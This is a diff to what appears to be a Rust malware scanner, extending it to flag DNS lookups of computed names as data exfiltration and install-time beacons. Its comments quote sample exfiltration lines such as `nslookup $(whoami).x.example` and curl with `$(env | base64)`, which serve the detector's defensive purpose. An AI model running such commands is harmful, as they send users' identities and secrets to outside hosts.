@@ -3,7 +3,7 @@
 //! data hidden in DNS names and scripts dropped to disk.
 
 use super::lists::{CONTENT_WRITERS, DNS_LOOKUPS, HTTP_REQUESTS, NETWORK, SENDERS, SUSPICIOUS_HOSTS};
-use super::processes::http_tool;
+use super::processes::{dns_tool, http_tool};
 use super::{FileSense, Out, all_args_lower, first_arg};
 use crate::facts::{Call, Facts};
 use crate::flow::{self, FETCHERS, Labels, matches, names};
@@ -16,14 +16,28 @@ pub(super) fn network(
     c: &Call,
     labels: Labels,
     connects_to_literal: bool,
+    dns: bool,
     caps: &mut Capabilities,
 ) {
     let name = c.name.as_str();
     // curl and wget started as processes send as surely as `requests.post`,
     // and what their command line substitutes (`$(env | base64)`) with them.
-    let tool = http_tool(c);
+    // A DNS lookup of a computed name (`gethostbyname(user + ".x.example")`,
+    // `nslookup $(whoami).x.example`) sends that name to the server of the
+    // domain written in the code.
+    // Only a name built onto a domain written in the code: looking up the
+    // machine's own name (`gethostbyname(gethostname())`, `ping $(hostname)`)
+    // asks the local resolver about this machine.
+    let onto_domain = |s: &str| s.contains('.') && s.bytes().any(|b| b.is_ascii_alphabetic());
+    let dns_command = dns_tool(c) && {
+        let cmd = all_args_lower(c);
+        [").", "`.", "%."].iter().any(|p| cmd.contains(p))
+    };
+    let dns_name = dns_command
+        || dns && c.args.first().is_some_and(|a| a.literal.is_none() && a.strings.iter().any(|s| onto_domain(s)));
+    let tool = http_tool(c) || dns_command;
     let labels = if tool { labels | substituted(c) } else { labels };
-    let sends = matches(name, names!(SENDERS)) || tool || http_get(c);
+    let sends = matches(name, names!(SENDERS)) || tool || http_get(c) || dns_name;
     let is_network = matches(name, names!(NETWORK))
         || matches(name, names!(HTTP_REQUESTS))
         || matches(name, names!(FETCHERS)) && !name.starts_with("?.");
@@ -153,6 +167,7 @@ pub(super) fn network(
         // installs, before anyone chose to run it, is a beacon.
         let chosen = labels.has(Labels::ADDRESS | Labels::DECODED)
             || connects_to_literal && name.contains(".send")
+            || dns_name
             || out.suspicious_destination();
         if out.install_time {
             out.push(
